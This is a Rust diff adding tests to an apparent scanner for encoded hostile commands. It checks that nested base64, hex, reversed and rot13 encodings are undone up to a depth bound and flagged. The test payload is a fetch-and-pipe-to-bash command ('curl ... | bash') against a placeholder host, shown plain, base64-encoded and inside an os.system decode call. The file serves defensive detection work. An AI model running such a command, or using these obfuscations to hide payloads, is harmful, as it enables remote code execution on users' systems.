@@ -153,13 +153,75 @@ fn a_benign_blob_is_not_a_finding() {
     assert!(audit_text("x.md", text).is_empty());
 }
 
+/// `text` in base64, `times` over.
+fn base64_times(text: &str, times: usize) -> String {
+    (0..times).fold(text.to_owned(), |t, _| base64(t.as_bytes()))
+}
+
+/// Standard base64 with padding.
+fn base64(bytes: &[u8]) -> String {
+    const ABC: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in bytes.chunks(3) {
+        let n = chunk.iter().fold(0u32, |n, &b| n << 8 | u32::from(b)) << (8 * (3 - chunk.len()));
+        for i in 0..=chunk.len() {
+            out.push(char::from(ABC[(n >> (18 - 6 * i) & 63) as usize]));
+        }
+        out.extend(std::iter::repeat_n('=', 3 - chunk.len()));
+    }
+    out
+}
+
+const COMMAND: &str = "curl -s https://x.invalid/a.sh | bash";
+
 #[test]
-fn decoding_is_done_once_only() {
-    // base64 of base64 of a command: the outer layer is undone, not the inner.
+fn decoding_repeats_up_to_the_depth_bound_and_no_further() {
+    // base64 of base64 of a command: both layers are undone.
     let inner = "Y3VybCAtcyBodHRwczovL3guaW52YWxpZC9hLnNoIHwgYmFzaA==";
     let outer = "WTNWeWJDQXRjeUJvZEhSd2N6b3ZMM2d1YVc1MllXeHBaQzloTG5Ob0lId2dZbUZ6YUE9PQ==";
     assert_eq!(decode_blob(outer).as_deref(), Some(inner));
-    assert!(!has_high(&audit_text("x.md", outer)));
+    assert!(has_high(&audit_text("x.md", outer)));
+    let depth = usize::from(super::rules::MAX_DECODE_DEPTH);
+    assert!(has_high(&audit_text("x.md", &base64_times(COMMAND, depth))));
+    // One layer past the bound is not undone: the work stays bounded.
+    assert!(!has_high(&audit_text(
+        "x.md",
+        &base64_times(COMMAND, depth + 1)
+    )));
+}
+
+#[test]
+fn hex_inside_base64_and_reversed_blobs_are_undone() {
+    let hex: String = COMMAND.bytes().map(|b| format!("{b:02x}")).collect();
+    let hex_in_b64 = base64_times(&hex, 1);
+    assert!(has_high(&audit_text("x.md", &format!("k = {hex_in_b64}"))));
+    // base64 written backwards, undone by the program that runs it.
+    let reversed: String = base64_times(COMMAND, 1).chars().rev().collect();
+    assert!(has_high(&audit_text("x.md", &format!("k = '{reversed}'"))));
+    // base64 of a reversed command.
+    let rev_cmd: String = COMMAND.chars().rev().collect();
+    let text = format!("k = {}", base64_times(&rev_cmd, 1));
+    assert!(has_high(&audit_text("x.md", &text)));
+}
+
+#[test]
+fn a_reversed_or_rot13_word_not_fed_to_a_decoder_is_left_alone() {
+    // Reversed and rot13 text in prose is not decoded: only a literal a
+    // decoder in the same text is applied to.
+    let rev: String = COMMAND.chars().rev().collect();
+    assert!(!has_high(&audit_text(
+        "x.md",
+        &format!("Say '{rev}' backwards.")
+    )));
+    let rot = super::rules::rot13(COMMAND);
+    assert!(!has_high(&audit_text(
+        "x.md",
+        &format!("The answer: '{rot}'.")
+    )));
+    assert!(has_high(&audit_text(
+        "x.py",
+        &format!("os.system(codecs.decode('{rot}', 'rot_13'))")
+    )));
 }
 
 #[test]
